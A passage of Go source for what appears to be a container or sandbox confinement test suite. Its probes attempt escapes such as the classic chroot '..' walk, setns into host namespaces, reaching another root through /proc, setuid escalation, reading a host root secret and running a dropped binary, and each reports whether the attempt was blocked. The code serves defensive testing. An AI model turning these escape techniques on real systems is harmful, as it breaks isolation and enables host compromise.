	if err != nil {
		f, err = os.Open(self)
	}
	if err != nil {
		return blocked("no file to pass: %v", err)
	}
	defer f.Close()
	return reached(unix.FinitModule(int(f.Fd()), "", 0), "finit_module(not a module)")
}

// ---- namespaces ----

func usernsMount() result {
	// Map our uid to root in the new namespace (without a map, execve
	// there drops every capability).
	cmd := exec.Command(self, "-child", "userns-mount")
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	out, err := cmd.CombinedOutput()
	if err != nil && len(out) == 0 {
		return blocked("clone(CLONE_NEWUSER|CLONE_NEWNS) with id maps: %s", errName(err))
	}
	s := strings.TrimSpace(string(out))
	if strings.HasPrefix(s, "MOUNTED") {
		return escaped("in a new user namespace: %s", s)
	}
	return blocked("new user namespace created, but: %s", s)
}

func unshareMnt() result {
	cmd := exec.Command(self, "-child", "nsid")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNS}
	out, err := cmd.Output()
	if err != nil {
		return blocked("clone(CLONE_NEWNS): %s", errName(err))
	}
	mine := nsInode("/proc/self/ns/mnt")
	got, _ := strconv.ParseUint(strings.TrimSpace(string(out)), 10, 64)
	if got == 0 || got == mine {
		return blocked("child reports mount ns %q, same as ours", strings.TrimSpace(string(out)))
	}
	return escaped("child runs in a new mount namespace %d (ours %d)", got, mine)
}

// unshareNet unshares the network namespace of one locked thread, which
// is then discarded (the goroutine exits without unlocking it).
func unshareNet() result {
	runtime.LockOSThread()
	before := nsInode("/proc/thread-self/ns/net")
	if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
		runtime.UnlockOSThread()
		return blocked("unshare(CLONE_NEWNET): %s", errName(err))
	}
	after := nsInode("/proc/thread-self/ns/net")
	if after == before {
		return blocked("unshare returned 0, but the net namespace is unchanged")
	}
	return escaped("created a new network namespace (%d -> %d)", before, after)
}

// setnsJoin joins a namespace of the host marker if visible, else of
// pid 1, on a locked thread that is then discarded.
func setnsJoin(kind string, flag int) result {
	pid := hostPid()
	if pid == 0 {
		pid = 1
	}
	// With no other process in sight, pid 1 may be this program: the
	// walls must still refuse setns into our own namespace.
	p := fmt.Sprintf("/proc/%d/ns/%s", pid, kind)
	fd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return blocked("open %s: %s", p, errName(err))
	}
	defer unix.Close(fd)
	runtime.LockOSThread()
	before := nsInode("/proc/thread-self/ns/" + kind)
	if err := unix.Setns(fd, flag); err != nil {
		runtime.UnlockOSThread()
		return blocked("setns(%s): %s", p, errName(err))
	}
	after := nsInode("/proc/thread-self/ns/" + kind)
	if after == before || after == origNS[kind] {
		// Joining our own namespace: allowed but gains nothing.
		return blocked("setns(%s) returned 0 but it is our own namespace (%d)", p, after)
	}
	host := ""
	if h := hostNSInode[kind]; h != 0 && h == after {
		host = " (the host's)"
	}
	return escaped("joined %s namespace %d%s from %d", kind, after, host, before)
}

func procRoot() result {
	pid := hostPid()
	if pid == 0 {
		pid = 1
	}
	if pid == os.Getpid() {
		return blocked("pid 1 is this program; no other root to reach")
	}
	p := fmt.Sprintf("/proc/%d/root", pid)
	var st unix.Stat_t
	if err := unix.Stat(p+"/", &st); err != nil {
		return blocked("stat %s: %s", p, errName(err))
	}
	rdev, rino := rootID()
	if st.Dev == rdev && st.Ino == rino {
		return blocked("%s is our own root", p)
	}
	ents, err := os.ReadDir(p)
	if err != nil {
		return escaped("%s is another root (dev %d ino %d), listing: %s", p, st.Dev, st.Ino, errName(err))
	}
	var names []string
	for i, e := range ents {
		if i == 8 {
			break
		}
		names = append(names, e.Name())
	}
	return escaped("%s is another root (host's): %v", p, names)
}

// ---- network ----

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func rawSocket(family, typ, proto int) result {
	fd, err := unix.Socket(family, typ|unix.SOCK_CLOEXEC, proto)
	if err != nil {
		return blocked("socket(%d, SOCK_RAW): %s", family, errName(err))
	}
	unix.Close(fd)
	return escaped("opened a raw socket (family %d)", family)
}

func abstractSocket() result {
	if *abstract == "" {
		return skipped("no host abstract socket name passed")
	}
	c, err := net.DialTimeout("unix", "@"+*abstract, 2*time.Second)
	if err != nil {
		var op *net.OpError
		if errors.As(err, &op) {
			return blocked("connect @%s: %s", *abstract, errName(op.Err))
		}
		return blocked("connect @%s: %v", *abstract, err)
	}
	defer c.Close()
	_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
	b := make([]byte, 64)
	n, _ := c.Read(b)
	return escaped("connected to the host's abstract socket @%s, read %q", *abstract, b[:n])
}

// netlinkLinkAdd asks rtnetlink for a dummy interface (CAP_NET_ADMIN),
// and deletes it again if it was made.
func netlinkLinkAdd() result {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
	if err != nil {
		return blocked("netlink socket: %s", errName(err))
	}
	defer unix.Close(fd)
	name := "attack0"
	newLink := rtnlLinkMsg(unix.RTM_NEWLINK, unix.NLM_F_REQUEST|unix.NLM_F_ACK|unix.NLM_F_CREATE|unix.NLM_F_EXCL, name, "dummy", 0)
	err = nlTalk(fd, newLink)
	if err == nil {
		_ = nlTalk(fd, rtnlLinkMsg(unix.RTM_DELLINK, unix.NLM_F_REQUEST|unix.NLM_F_ACK, name, "", 0))
		return escaped("created (and deleted) dummy link %s via rtnetlink", name)
	}
	if isErrno(err, unix.EPERM, unix.EACCES) {
		return blocked("RTM_NEWLINK dummy: %s", errName(err))
	}
	// No dummy driver: set lo's MTU to its current value instead.
	lo, lerr := net.InterfaceByName("lo")
	if lerr != nil {
		return reached(err, "RTM_NEWLINK dummy")
	}
	if err2 := nlTalk(fd, rtnlLinkMsg(unix.RTM_NEWLINK, unix.NLM_F_REQUEST|unix.NLM_F_ACK, "lo", "", uint32(lo.MTU))); err2 != nil {
		return reached(err2, "RTM_NEWLINK lo mtu")
	}
	return escaped("set lo's MTU via rtnetlink (value %d kept; dummy links: %s)", lo.MTU, errName(err))
}

func rtnlLinkMsg(typ uint16, flags uint16, name, kind string, mtu uint32) []byte {
	attr := func(t uint16, data []byte) []byte {
		l := 4 + len(data)
		b := make([]byte, (l+3)&^3)
		binary.LittleEndian.PutUint16(b[0:], uint16(l))
		binary.LittleEndian.PutUint16(b[2:], t)
		copy(b[4:], data)
		return b
	}
	body := make([]byte, unix.SizeofIfInfomsg)
	body = append(body, attr(unix.IFLA_IFNAME, append([]byte(name), 0))...)
	if mtu != 0 {
		v := make([]byte, 4)
		binary.LittleEndian.PutUint32(v, mtu)
		body = append(body, attr(unix.IFLA_MTU, v)...)
	}
	if kind != "" {
		body = append(body, attr(unix.IFLA_LINKINFO, attr(unix.IFLA_INFO_KIND, []byte(kind)))...)
	}
	msg := make([]byte, unix.NLMSG_HDRLEN, unix.NLMSG_HDRLEN+len(body))
	msg = append(msg, body...)
	binary.LittleEndian.PutUint32(msg[0:], uint32(len(msg)))
	binary.LittleEndian.PutUint16(msg[4:], typ)
	binary.LittleEndian.PutUint16(msg[6:], flags)
	binary.LittleEndian.PutUint32(msg[8:], 1)
	return msg
}

func nlTalk(fd int, msg []byte) error {
	if err := unix.Sendto(fd, msg, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	b := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, b, 0)
	if err != nil {
		return err
	}
	if n >= unix.NLMSG_HDRLEN+4 && binary.LittleEndian.Uint16(b[4:]) == unix.NLMSG_ERROR {
		if code := int32(binary.LittleEndian.Uint32(b[unix.NLMSG_HDRLEN:])); code != 0 {
			return syscall.Errno(-code)
		}
		return nil
	}
	return fmt.Errorf("unexpected netlink reply")
}

// ---- identity and privileges ----

func setuidEscalation() result {
	if *suidPath == "" {
		return skipped("no setuid-root binary passed")
	}
	cmd := exec.Command(*suidPath, "-child", "whoami")
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534, NoSetGroups: true}}
	out, err := cmd.CombinedOutput()
	s := strings.TrimSpace(string(out))
	if err != nil && !strings.HasPrefix(s, "euid=") {
		return blocked("exec %s as uid 65534: %s %s", *suidPath, errName(err), s)
	}
	var euid int
	var capEff string
	fmt.Sscanf(s, "euid=%d capeff=%s", &euid, &capEff)
	if euid == 0 || strings.Trim(capEff, "0") != "" {
		return escaped("uid 65534 ran setuid-root %s and got %s", *suidPath, s)
	}
	return blocked("setuid-root %s as uid 65534 runs with %s", *suidPath, s)
}

func hostSecret() result {
	if *secretPath == "" {
		return skipped("no host secret passed")
	}
	b, err := os.ReadFile(*secretPath)
	if err != nil {
		return blocked("read %s: %s", *secretPath, errName(err))
	}
	return escaped("read %d bytes of host root's 0600 file %s", len(b), *secretPath)
}

func hostProcVisible() result {
	ents, _ := os.ReadDir("/proc")
	n := 0
	var found []string
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		n++
		if pid, _ := strconv.Atoi(e.Name()); *marker != "" && argv0(pid) == *marker {
			found = append(found, e.Name())
		}
	}
	if len(found) > 0 {
		return escaped("host marker process visible as pid %v (%d pids in /proc)", found, n)
	}
	if *marker == "" && n > 64 {
		return escaped("%d pids in /proc", n)
	}
	return blocked("%d pids in /proc, no host marker", n)
}

func killHost() result {
	if *markerPid == 0 {
		return skipped("no host marker pid passed")
	}
	pid := hostPid()
	err := unix.Kill(*markerPid, 0)
	switch {
	case err == nil && pid != 0:
		return escaped("kill(%d, 0) succeeded on the host marker process", pid)
	case err == nil:
		return blocked("kill(%d, 0) reaches a container process of that number, not the host's", *markerPid)
	default:
		return blocked("kill(%d, 0): %s", *markerPid, errName(err))
	}
}

func sethostname() result {
	cur, err := os.Hostname()
	if err != nil {
		return blocked("gethostname: %v", err)
	}
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := unix.Sethostname([]byte(cur)); err != nil {
		return blocked("sethostname: %s", errName(err))
	}
	uts := nsInode("/proc/thread-self/ns/uts")
	if h := hostNSInode["uts"]; h != 0 && h == uts {
		return escaped("sethostname(%q) succeeded in the host's UTS namespace", cur)
	}
	return blocked("sethostname allowed, but in the container's own UTS namespace (%d)", uts)
}

// chrootEscape is the classic chroot("x"); chdir(".."...); chroot(".")
// escape, in a child (chroot changes the whole process's root).
func chrootEscape() result {
	dir, err := scratchDir("chroot")
	if err != nil {
		return blocked("%v", err)
	}
	defer os.Remove(dir)
	out, err := exec.Command(self, "-child", "chroot-escape", dir).CombinedOutput()
	s := strings.TrimSpace(string(out))
	if strings.HasPrefix(s, "ESCAPED") {
		return escaped("%s", s)
	}
	if strings.HasPrefix(s, "CONFINED") {
		return blocked("%s", s)
	}
	return blocked("chroot: %s %s", errName(err), s)
}

func clockSettime() result {
	// adjtimex writing back the tick length it just read needs the same
	// CAP_SYS_TIME as setting the clock, and changes nothing: no step of
	// the host's clock even when the wall is down.
	var tx unix.Timex
	if _, err := unix.Adjtimex(&tx); err != nil {
		return skipped("adjtimex read: %s", errName(err))
	}
	tx.Modes = 0x4000 // ADJ_TICK
	if _, err := unix.Adjtimex(&tx); err != nil {
		return blocked("adjtimex(ADJ_TICK, unchanged): %s", errName(err))
	}
	return escaped("adjtimex set the kernel tick (unchanged value): the clock could be set")
}

func settimeofday() result {
	var tv unix.Timeval
	var tz [2]int32
	_, _, _ = unix.RawSyscall(unix.SYS_GETTIMEOFDAY, uintptr(unsafe.Pointer(&tv)), uintptr(unsafe.Pointer(&tz[0])), 0)
	if tz[0] != 0 {
		return skipped("host timezone offset %d: writing it back could warp the clock", tz[0])
	}
	_, _, e := unix.Syscall(unix.SYS_SETTIMEOFDAY, 0, uintptr(unsafe.Pointer(&tz[0])), 0)
	if e != 0 {
		return blocked("settimeofday(NULL, tz): %s", errName(e))
	}
	return escaped("settimeofday set the kernel timezone (unchanged value)")
}

func rebootCAD() result {
	b, err := os.ReadFile("/proc/sys/kernel/ctrl-alt-del")
	if err != nil {
		return skipped("cannot read ctrl-alt-del: %s", errName(err))
	}
	cmd, name := unix.LINUX_REBOOT_CMD_CAD_OFF, "CAD_OFF"
	if strings.TrimSpace(string(b)) != "0" {
		cmd, name = unix.LINUX_REBOOT_CMD_CAD_ON, "CAD_ON"
	}
	err = unix.Reboot(cmd)
	switch {
	case err == nil:
		return escaped("reboot(%s) accepted by the kernel (current setting kept)", name)
	case isErrno(err, unix.EINVAL):
		return blocked("reboot(%s): EINVAL: confined by the pid namespace", name)
	default:
		return blocked("reboot(%s): %s", name, errName(err))
	}
}

func swapon() error {
	p, _ := unix.BytePtrFromString("/.attack-nonexistent-swap")
	_, _, e := unix.Syscall(unix.SYS_SWAPON, uintptr(unsafe.Pointer(p)), 0, 0)
	return errOrNil(e)
}

// quotactl: quotactl_fd(/, Q_QUOTAON) with no quota file: CAP_SYS_ADMIN
// is checked, then the missing path gives EINVAL. Nothing is enabled.
func quotactl() result {
	fd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return blocked("open /: %s", errName(err))
	}
	defer unix.Close(fd)
	const sysQuotactlFd = 443
	const qQuotaOn, usrQuota, qfmtVfsV1 = 0x800002, 0, 4
	_, _, e := unix.Syscall6(sysQuotactlFd, uintptr(fd), uintptr(qQuotaOn<<8|usrQuota), qfmtVfsV1, 0, 0, 0)
	if e == unix.EROFS {
		return blocked("quotactl_fd(Q_QUOTAON): EROFS (read-only root)")
	}
	return reached(errOrNil(e), "quotactl_fd(Q_QUOTAON, no file)")
}

func ioperm() result {
	if err := unix.Ioperm(0x80, 1, 1); isErrno(err, unix.ENOSYS) {
		return absent("ioperm: ENOSYS")
	} else if err != nil {
		return blocked("ioperm(0x80): %s", errName(err))
	}
	_ = unix.Ioperm(0x80, 1, 0)
	return escaped("ioperm granted access to I/O port 0x80 (no I/O done, revoked)")
}

func iopl() result {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := unix.Iopl(3); isErrno(err, unix.ENOSYS) {
		return absent("iopl: ENOSYS")
	} else if err != nil {
		return blocked("iopl(3): %s", errName(err))
	}
	_ = unix.Iopl(0)
	return escaped("iopl(3) granted (no I/O done, reset)")
}

func personality() result {
	const readImpliesExec = 0x0400000
	old, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
	if _, _, e := unix.Syscall(unix.SYS_PERSONALITY, readImpliesExec, 0, 0); e != 0 {
		return blocked("personality(READ_IMPLIES_EXEC): %s", errName(e))
	}
	now, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
	_, _, _ = unix.Syscall(unix.SYS_PERSONALITY, old, 0, 0)
	if now&readImpliesExec == 0 {
		return blocked("personality accepted, but READ_IMPLIES_EXEC not set (%#x)", now)
	}
	return escaped("personality is now %#x (READ_IMPLIES_EXEC set; restored)", now)
}

func fsopen() result {
	fd, err := unix.Fsopen("tmpfs", unix.FSOPEN_CLOEXEC)
	if err != nil {
		return blocked("fsopen(tmpfs): %s", errName(err))
	}
	defer unix.Close(fd)
	if err := unix.FsconfigCreate(fd); err != nil {
		return escaped("fsopen gave fd %d (create: %s)", fd, errName(err))
	}
	mfd, err := unix.Fsmount(fd, unix.FSMOUNT_CLOEXEC, 0)
	if err != nil {
		return escaped("fsopen+fsconfig created a tmpfs (fsmount: %s)", errName(err))
	}
	unix.Close(mfd)
	return escaped("fsopen+fsconfig+fsmount made a detached tmpfs mount")
}

func openTree() result {
	fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
	if err != nil {
		return blocked("open_tree(/, CLONE): %s", errName(err))
	}
	unix.Close(fd)
	return escaped("open_tree cloned the root mount (fd %d)", fd)
}

func rlimitRaise() result {
	var lim unix.Rlimit
	if err := unix.Getrlimit(unix.RLIMIT_NOFILE, &lim); err != nil {
		return blocked("getrlimit: %s", errName(err))
	}
	want := lim
	want.Max++
	if err := unix.Setrlimit(unix.RLIMIT_NOFILE, &want); err != nil {
		return blocked("raise RLIMIT_NOFILE hard %d -> %d: %s", lim.Max, want.Max, errName(err))
	}
	var got unix.Rlimit
	_ = unix.Getrlimit(unix.RLIMIT_NOFILE, &got)
	_ = unix.Setrlimit(unix.RLIMIT_NOFILE, &lim)
	if got.Max != want.Max {
		return blocked("setrlimit returned 0, hard limit still %d", got.Max)
	}
	return escaped("raised RLIMIT_NOFILE hard limit %d -> %d (restored)", lim.Max, got.Max)
}

// ---- Landlock ----

// execDropped copies this program to a writable place that is not
// mounted noexec and runs it: code written at run time.
func execDropped() result {
	src, err := os.ReadFile(self)
	if err != nil {
		return blocked("read self: %v", err)
	}
	var errs []string
	for _, dir := range []string{"/dev", "/tmp", "/run", "/dev/shm", "/"} {
		p := filepath.Join(dir, ".attack-dropped")
		if err := os.WriteFile(p, src, 0o755); err != nil {
			errs = append(errs, dir+": write "+errName(err))
			continue
		}
		out, err := exec.Command(p, "-child", "whoami").CombinedOutput()
		os.Remove(p)
		if err == nil && strings.HasPrefix(string(out), "euid=") {
			return escaped("wrote and executed %s", p)
		}
		errs = append(errs, dir+": exec "+errName(unwrapExec(err)))
	}
	return blocked("%s", strings.Join(errs, "; "))
}

func unwrapExec(err error) error {
	var pe *os.PathError
	if errors.As(err, &pe) {
		return pe.Err
	}
	return err
}

// ---- helper children ----

func child(mode string) int {
	switch mode {
	case "idle":
		os.Stdout.Write([]byte("ready\n"))
		_ = idleMarker
		time.Sleep(30 * time.Second)
	case "whoami":
		st, _ := os.ReadFile("/proc/self/status")
		capEff := "?"
		for _, l := range strings.Split(string(st), "\n") {
			if v, ok := strings.CutPrefix(l, "CapEff:"); ok {
				capEff = strings.TrimSpace(v)
			}
		}
		fmt.Printf("euid=%d capeff=%s\n", os.Geteuid(), capEff)
	case "nsid":
		fmt.Println(nsInode("/proc/self/ns/mnt"))
	case "userns-mount":
		dir := "/tmp"
		if err := unix.Mount("tmpfs", dir, "tmpfs", 0, ""); err != nil {
			fmt.Printf("mount tmpfs: %s\n", errName(err))
			return 1
		}
		if statfsType(dir) == unix.TMPFS_MAGIC {
			fmt.Printf("MOUNTED a tmpfs on %s as uid %d\n", dir, os.Getuid())
			return 0
		}
		fmt.Println("mount returned 0 but no tmpfs")
		return 1
	case "chroot-escape":
		if flag.NArg() < 1 {
			return 2
		}
		rdev, rino := rootID()
		if err := unix.Chroot(flag.Arg(0)); err != nil {
			fmt.Printf("CONFINED chroot: %s\n", errName(err))
			return 0
		}
		for i := 0; i < 64; i++ {
			_ = unix.Chdir("..")
		}
		if err := unix.Chroot("."); err != nil {
			fmt.Printf("CONFINED chroot(.): %s\n", errName(err))
			return 0
		}
		var st unix.Stat_t
		_ = unix.Stat("/", &st)
		if st.Dev == rdev && st.Ino == rino {
			fmt.Println("CONFINED the .. walk stopped at the container's root")
			return 0
		}
		ents, err := os.ReadDir("/")
		var names []string
		for i, e := range ents {
			if i < 8 {
				names = append(names, e.Name())
			}
		}
		fmt.Printf("ESCAPED to a root above the container's (dev %d ino %d): %v %s\n", st.Dev, st.Ino, names, errName(err))
	default:
		return 2
	}
	return 0
}
